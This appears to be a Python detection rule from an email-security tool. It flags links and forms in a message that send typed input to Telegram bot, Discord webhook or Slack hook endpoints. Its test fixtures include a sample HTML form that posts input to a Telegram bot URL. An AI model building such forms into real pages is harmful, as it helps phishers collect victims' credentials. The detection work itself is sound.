"""A form or link that sends what is typed to a messenger's robot."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Final

from tocsin.identify import sites
from tocsin.identify.check import check, evidence
from tocsin.identify.examples import message
from tocsin.identify.mail import Mail
from tocsin.model.context import Context
from tocsin.model.verdict import Danger, Evidence, Weight

_BOTS: Final = (
    ("api.telegram.org", "/bot"),
    ("discord.com", "/api/webhooks/"),
    ("discordapp.com", "/api/webhooks/"),
    ("hooks.slack.com", "/services/"),
)
_HOSTS: Final = frozenset(host for host, _ in _BOTS)


@check(
    id="form-to-robot",
    weight=Weight.DECISIVE,
    danger=Danger.CREDENTIALS,
    attack=("T1598.003", "T1567"),
    explain={
        "en": "What is typed here goes straight to a robot in a chat, as thieves of passwords collect them.",
        "ar": "ما يُكتب هنا يُرسل مباشرة إلى روبوت في محادثة، وهكذا يجمع لصوص كلمات المرور غنيمتهم.",
    },
    needs="links",
    hits=lambda: [
        message(page='<form action="https://api.telegram.org/bot7:AA/sendMessage"><input name="q"></form>'),
        message(links=[("Open", "https://discord.com/api/webhooks/7/x")]),
    ],
    misses=lambda: [
        message(links=[("Channel", "https://t.me/harbour")]),
        message(page='<form action="https://other.test/bot"><input name="q"></form>'),
    ],
)
def form_to_robot(mail: Mail, context: Context) -> Iterable[Evidence]:
    """Addresses of the messengers' interfaces for robots, in links and forms of the body."""
    for link in sites.sites(mail):
        if link.host in _HOSTS and any(link.host == host and link.opened.path.startswith(path) for host, path in _BOTS):
            yield evidence(link.span, host=link.host)
